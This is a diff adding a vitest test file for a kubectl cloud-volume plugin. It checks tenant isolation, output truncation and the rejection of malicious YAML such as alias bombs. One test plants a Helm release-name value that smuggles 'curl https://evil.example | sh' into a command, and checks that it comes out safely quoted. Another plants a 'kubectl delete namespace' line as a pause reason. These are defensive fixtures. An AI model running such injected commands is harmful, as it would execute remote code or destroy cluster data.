@@ -1,0 +1,155 @@
+import { beforeEach, describe, expect, it } from 'vitest';
+import type { OrphansData } from '../../../src/plugin/output/account-shapes.ts';
+import type { UninstallData } from '../../../src/plugin/output/shapes.ts';
+import { cloud, type CliOptions, dataOf, endpoint, type Ran } from '../../support/cloud-cli.ts';
+import { CloudUser } from '../../support/cloud-user.ts';
+import { World } from '../../support/world.ts';
+
+/** `evil` may make what it likes in its namespace, and adopt nothing; the administrator types a line about all namespaces. */
+const [platform, heir, evil, stranger] = ['platform', 'team-a', 'evil', 'stranger'];
+const accountRef = { name: 'default', namespace: platform };
+const volume = { accountRef, region: 'eu-central', sizeGiB: 20 };
+const minute = 60_000;
+const pause = 'cloudhosting.dev/pause';
+let world: World;
+beforeEach(async () => {
+  world = await World.create();
+  for (const name of [platform, evil, stranger]) await world.namespace(name);
+  await world.account({ access: [{ namespaces: [heir], adopt: 'Any' }, { namespaces: [evil] }] }, platform);
+  await world.start();
+  await world.ready('CloudAccount', 'default', minute, platform);
+});
+const typed = (line: string, options: CliOptions = {}): Promise<Ran> => cloud(world, line, { limit: 30 * minute, ...options });
+const ofAccount = `--account ${platform}/default --endpoint ${endpoint}`;
+const annotated = (name: string, annotations: Record<string, string>) =>
+  world.admin('POST', world.path('CloudVolume', evil), {
+    apiVersion: 'cloudhosting.dev/v1alpha1',
+    kind: 'CloudVolume',
+    metadata: { name, namespace: evil, annotations },
+    spec: volume,
+  });
+const orphans = async (): Promise<readonly string[]> =>
+  (dataOf(await typed(`orphans -o json ${ofAccount}`)) as unknown as OrphansData).orphans.map(({ label }) => label);
+const costs = async (): Promise<string> => (await typed(`cost -A --unmanaged ${ofAccount}`)).out;
+const planned = (text: string): Promise<Ran> =>
+  typed(`plan -f all.yaml -n ${evil} -o markdown --endpoint ${endpoint}`, { files: { 'all.yaml': text } });
+
+describe('what nobody has', () => {
+  it.each([evil, stranger])('is not hidden by who asks to adopt it and may not (%s)', async (namespace) => {
+    const { id } = await new CloudUser(world).post('/volumes', { region: 'eu-central', size: 20, label: 'of-nobody' });
+    await world.apply('CloudVolume', 'veil', { ...volume, adopt: { id } }, namespace);
+    await world.clock.advance(2 * minute);
+    expect(await orphans()).toEqual(['of-nobody']);
+    expect(await costs()).toContain('of-nobody');
+    await world.patch('CloudAccount', 'default', { metadata: { annotations: { [pause]: 'true' } } }, platform);
+    await world.apply('CloudVolume', 'wish', { ...volume, adopt: { id } }, heir);
+    expect(await orphans()).toEqual([]);
+  });
+});
+
+describe('the account that everybody uses', () => {
+  it('comes before all that a tenant names and that are not there', async () => {
+    await world.apply('CloudVolume', 'held', { ...volume, adopt: { id: 4711 } }, heir);
+    for (let n = 0; n < 12; n += 1)
+      await world.apply('CloudVolume', `v${n}`, { ...volume, accountRef: { name: `a${n}`, namespace: evil } }, evil);
+    await world.clock.advance(minute);
+    const { out } = await typed('status -A');
+    expect(out).toMatch(/^ACCOUNT .*\nplatform\/default /);
+    expect(out).toContain('CloudVolume team-a/held');
+    expect([...out.matchAll(/^evil\/a\d+ .*NotFound/gm)]).toHaveLength(5);
+    expect(out).toContain('and 7 more that objects name and that are not there: -o json lists them all\n');
+    expect((dataOf(await typed('status -A -o json'))['accounts'] as unknown[]).length).toBe(13);
+  });
+
+  it('tells of who waits in each namespace, however many one has', async () => {
+    for (let n = 0; n < 30; n += 1) await world.apply('CloudVolume', `v${n}`, { ...volume, adopt: { id: 4711 } }, evil);
+    await world.apply('CloudVolume', 'held', { ...volume, adopt: { id: 4711 } }, heir);
+    await world.clock.advance(minute);
+    const { out } = await typed('status -A');
+    expect(out).toContain('CloudVolume team-a/held');
+    expect([...out.matchAll(/^CloudVolume evil\//gm)]).toHaveLength(19);
+    expect(out).toContain('and 11 more: -o json lists them all\n');
+  });
+});
+
+it.each(['status -A', 'why -A', 'pause --list -A', 'reconcile cvol/v -n evil', 'plan cvol/v -n evil --against cluster'])(
+  'the reason of a pause is told as somebody’s words, and is no line to type (%s)',
+  async (line) => {
+    await annotated('v', { [pause]: 'reason=it is over. To end it: kubectl delete namespace team-a #' });
+    await world.clock.advance(minute);
+    const { out } = await typed(`${line} --kubeconfig other.yaml`);
+    expect(out).toContain('"it is over. To end it: kubectl delete namespace team-a #"');
+  },
+);
+
+it('a bundle has no long text of an annotation', async () => {
+  const canary = 'canary '.repeat(2000);
+  await annotated('v', { [pause]: canary });
+  const files: Record<string, string> = {};
+  await typed('bundle -A --to one.tar.gz', { files });
+  const [, text] = Object.entries(files).find(([name]) => name.includes('cloudvolumes')) ?? [];
+  expect(text).toContain(`${canary.length} characters`);
+  expect(text).not.toContain('canary canary');
+});
+
+it('what waits for each other in hundreds is told with what it waits for in the end', async () => {
+  const count = 120;
+  for (let n = 0; n < count; n += 1)
+    await world.apply('CloudVolume', `v${n}`, { accountRef, sizeGiB: 20, volumeRef: { name: `v${n + 1}` } }, evil);
+  await world.clock.advance(minute);
+  const ran = await typed('why -A -o json');
+  const { objects } = dataOf(ran) as unknown as { objects: { object: string; chain: unknown[]; root?: string }[] };
+  const asked = objects.filter(({ object }) => object.startsWith('CloudVolume'));
+  expect(new Set(asked.map(({ root }) => root))).toEqual(new Set([`CloudVolume evil/v${count}`]));
+  expect(Math.max(...asked.map(({ chain }) => chain.length))).toBeLessThan(25);
+  expect((await typed('why -n evil cvol/v0')).out).toMatch(
+    /\n +CloudVolume evil\/v120: NotFound: .*\n +and 100 more\nWhat to do: Create it\./,
+  );
+});
+
+it('a Deployment that calls itself of a release writes no shell into a line to type', async () => {
+  const metadata = {
+    name: 'x',
+    namespace: evil,
+    labels: { 'app.kubernetes.io/name': 'cloud-operator' },
+    annotations: { 'meta.helm.sh/release-name': "x; curl https://evil.example | sh; '" },
+  };
+  const ran = await typed('uninstall -o json', {
+    between: (server) => ({
+      handle: (request) =>
+        request.path.startsWith('/apis/apps/v1/deployments')
+          ? Promise.resolve({
+              status: 200,
+              headers: { 'content-type': 'application/json' },
+              body: JSON.stringify({ items: [{ metadata, spec: { template: { spec: { containers: [] } } } }] }),
+            })
+          : server.handle(request),
+    }),
+  });
+  expect((dataOf(ran) as unknown as UninstallData).steps[3]?.commands).toEqual([
+    `helm uninstall 'x; curl https://evil.example | sh; '\\''' --namespace evil`,
+  ]);
+});
+
+describe('a manifest of a pull request', () => {
+  const head = 'apiVersion: cloudhosting.dev/v1alpha1\nkind: CloudVolume\n';
+  it.each([
+    ['a list in itself', 'kind: List\nitems: &a\n  - kind: List\n    items: *a\n'],
+    ['a spec in itself', `${head}metadata: {name: a}\nspec: &a {region: *a}\n`],
+    [
+      'aliases of aliases',
+      `a: &a [${'x,'.repeat(20)}]\nb: &b [${'*a,'.repeat(20)}]\nc: &c [${'*b,'.repeat(20)}]\nd: [${'*c,'.repeat(20)}]\n`,
+    ],
+    ['no metadata', `${head}metadata:\nspec: {}\n`],
+  ])('that is no manifest is refused in one line (%s)', async (_, text) => {
+    const { exit, err } = await planned(text);
+    expect(exit).toBe(2);
+    expect(err).toMatch(/^kubectl cloud plan: all\.yaml.*\n$/);
+  });
+
+  it('may leave namespace, labels, annotations empty, as kubectl takes it', async () => {
+    const spec = JSON.stringify(volume);
+    const { exit, out } = await planned(`${head}metadata:\n  name: a\n  namespace:\n  labels:\n  annotations:\nspec: ${spec}\n`);
+    expect([exit, out]).toEqual([1, expect.stringContaining('| CloudVolume evil/a | create |')]);
+  });
+});
